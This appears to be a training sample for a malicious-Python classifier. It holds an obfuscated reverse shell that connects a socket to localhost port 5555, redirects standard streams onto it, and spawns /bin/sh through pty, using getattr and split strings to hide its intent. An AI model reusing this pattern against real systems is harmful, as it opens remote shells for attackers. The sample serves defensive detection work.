# DEFANGED TRAINING SAMPLE for the shrike malicious-Python classifier. Never executed by anything.
# Addresses are documentation-only (127.0.0.1, 192.0.2.0/24, example.invalid); no working payload.
_s = __import__("socket")
_o = __import__("os")
k = getattr(_s, "socket")()
getattr(k, "connect")(("127.0.0.1", 5555))
for i in range(3):
    getattr(_o, "du" + "p2")(k.fileno(), i)
getattr(__import__("p" + "ty"), "sp" + "awn")("/bin/" + "sh")
